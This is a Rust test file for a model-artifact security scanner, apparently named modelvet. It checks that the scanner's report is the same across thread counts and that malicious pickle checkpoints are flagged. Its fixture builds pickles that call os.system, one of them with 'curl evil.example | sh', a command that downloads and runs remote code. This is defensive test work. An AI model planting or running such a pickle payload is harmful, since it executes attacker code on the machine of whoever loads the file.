//! Files are spread over `--jobs` threads (big ones hashed and scanned as two
//! tasks), but the report is the same whatever the number of threads: same
//! order, digests, findings and verdict.

use crate::support::{json_report, sha256sum, tempdir};
use modelvet_testkit::{pickle, torch};

/// A folder with small and big files, benign and malicious: a checkpoint of
/// about 3 MiB whose `data.pkl` calls `os.system` (split into two tasks), one
/// of about 5 MiB (bigger than a read, so streamed), and small files.
fn mixed_folder() -> tempfile::TempDir {
    let dir = tempdir();
    let root = dir.path().join("models");
    std::fs::create_dir_all(root.join("a/b")).unwrap();
    let big = |n: u32| vec![("0", torch::storage_bytes(n))];
    let payload = pickle::os_system(2, "curl evil.example | sh");
    std::fs::write(
        root.join("a/payload.pt"),
        torch::zip_checkpoint("archive", &payload, &big(750_000)).build(),
    )
    .unwrap();
    let benign = torch::state_dict_pickle(&[("w", "0", 1_300_000)]);
    std::fs::write(
        root.join("a/b/benign.pt"),
        torch::zip_checkpoint("archive", &benign, &big(1_300_000)).build(),
    )
    .unwrap();
    std::fs::write(root.join("config.json"), b"{\"model_type\": \"bert\"}").unwrap();
    std::fs::write(root.join("small.pkl"), pickle::os_system(0, "id")).unwrap();
    std::fs::write(root.join("empty"), b"").unwrap();
    dir
}

#[test]
fn report_does_not_depend_on_the_number_of_threads() {
    let dir = mixed_folder();
    let (code, one) = json_report(dir.path(), &["--jobs", "1", "models"]);
    assert_eq!(code, 1, "{one:#}");
    for jobs in ["2", "3", "8"] {
        let (c, many) = json_report(dir.path(), &["--jobs", jobs, "models"]);
        assert_eq!(c, code, "--jobs {jobs}");
        assert_eq!(many, one, "--jobs {jobs}");
    }
    let artifacts = one["artifacts"].as_array().unwrap();
    let paths: Vec<&str> = artifacts
        .iter()
        .map(|a| a["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        paths,
        [
            "models/a/b/benign.pt",
            "models/a/payload.pt",
            "models/config.json",
            "models/empty",
            "models/small.pkl",
        ]
    );
    for a in artifacts {
        let path = dir.path().join(a["path"].as_str().unwrap());
        assert_eq!(a["sha256"], sha256sum(&path), "{}", path.display());
    }
    let flagged: Vec<&str> = one["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == "pickle-dangerous-global")
        .map(|f| f["artifact"].as_str().unwrap())
        .collect();
    assert!(flagged.contains(&"models/a/payload.pt"), "{one:#}");
    assert!(flagged.contains(&"models/small.pkl"), "{one:#}");
    assert!(!flagged.contains(&"models/a/b/benign.pt"), "{one:#}");
}
